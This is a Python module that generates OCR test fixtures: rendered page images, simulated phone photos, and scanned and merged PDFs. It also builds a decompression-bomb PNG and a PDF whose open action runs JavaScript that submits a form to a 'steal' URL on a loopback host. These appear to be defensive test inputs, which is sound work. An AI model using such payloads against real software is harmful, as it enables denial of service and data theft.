"""Scans and photos of pages, generated for the OCR tests: text rendered with Pillow (its
bundled font), saved as an image or wrapped in a PDF with no text layer. Small and big-lettered
so OCR is quick and its recall measurable; `photo_of_page` adds what a phone camera adds
(rotation, noise, blur, JPEG)."""

from __future__ import annotations

import io
import random
import re
import zlib

from PIL import Image, ImageDraw, ImageFont

SCAN_LINES = (
    "The lighthouse keeper wrote storm reports",
    "every night about ships and the harbour",
    "Fog horns sounded twice before dawn",
)
PHOTO_LINES = (
    "Minutes of the village orchard meeting",
    "Apples were pressed into cider in October",
    "Volunteers will prune the pear trees",
)


def words(text: str) -> list[str]:
    return re.findall(r"[a-z0-9]+", text.lower())


def recall(expected: str, found: str) -> float:
    """Share of the expected words (with repeats) that the found text contains."""
    want = words(expected)
    have: dict[str, int] = {}
    for w in words(found):
        have[w] = have.get(w, 0) + 1
    hits = 0
    for w in want:
        if have.get(w, 0) > 0:
            have[w] -= 1
            hits += 1
    return hits / len(want)


def page_image(lines: tuple[str, ...] | list[str], size: int = 40) -> Image.Image:
    """Black text on white, one line per item, with margins. Words are set with a space of
    0.3 em (Arial's is 0.28; the bundled font's 0.22 runs words together for OCR)."""
    font = ImageFont.load_default(size=size)
    space = 0.3 * size

    def width_of(line: str) -> float:
        return sum(font.getlength(w) for w in line.split()) + space * (len(line.split()) - 1)

    width = int(max(width_of(line) for line in lines)) + 2 * size
    image = Image.new("L", (width, (len(lines) * 2 + 1) * size), 255)
    draw = ImageDraw.Draw(image)
    for i, line in enumerate(lines):
        x = float(size)
        for word in line.split():
            draw.text((x, size + i * 2 * size), word, fill=0, font=font)
            x += font.getlength(word) + space
    return image


def image_bytes(image: Image.Image, fmt: str, **options: object) -> bytes:
    buf = io.BytesIO()
    image.save(buf, format=fmt, **options)
    return buf.getvalue()


def photo_of_page(lines: tuple[str, ...] | list[str], seed: int = 3) -> bytes:
    """A JPEG like a phone photo of a printed page: grey paper on a dark desk, tilted 3.5
    degrees, sensor noise, JPEG artefacts."""
    rng = random.Random(seed)
    page = page_image(lines).convert("RGB")
    paper = Image.new("RGB", (page.width + 120, page.height + 120), (214, 208, 196))
    paper.paste(page.point(lambda v: 40 + v * 0.75), (60, 60))
    tilted = paper.rotate(3.5, resample=Image.Resampling.BICUBIC, fillcolor=(90, 90, 90))
    noise = Image.frombytes("L", tilted.size, rng.randbytes(tilted.width * tilted.height))
    noise = noise.convert("RGB")  # uniform sensor noise, the same for a seed
    return image_bytes(Image.blend(tilted, noise, 0.06), "JPEG", quality=80)


def scanned_pdf(pages: list[list[str] | tuple[str, ...]]) -> bytes:
    """A PDF of page images only (no text layer), as a scanner writes it."""
    images = [page_image(lines).convert("RGB") for lines in pages]
    return image_bytes(images[0], "PDF", resolution=100.0, save_all=True, append_images=images[1:])


def join_pdfs(parts: list[bytes]) -> bytes:
    """The pages of several PDFs, in order, in one PDF."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for part in parts:
        writer.append(PdfReader(io.BytesIO(part)))
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of width x height white pixels: a few hundred KB that decode to
    width*height pixels (a decompression bomb for an image library)."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = [compressor.compress(row * 1000) for _ in range(height // 1000)]
    chunks.append(compressor.compress(row * (height % 1000)))
    chunks.append(compressor.flush())
    idat = b"".join(chunks)

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return len(body).to_bytes(4, "big") + kind + body + crc.to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def javascript_pdf(text: str) -> bytes:
    """A text PDF that runs JavaScript when opened (an OpenAction) if a viewer allowed it."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    from docpipe_dagster_mocks.llamaparse.testdata import build_text_pdf

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_text_pdf([text]))))
    script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');"
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(script),
            }
        )
    )
    writer._root_object[NameObject("/OpenAction")] = action
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()
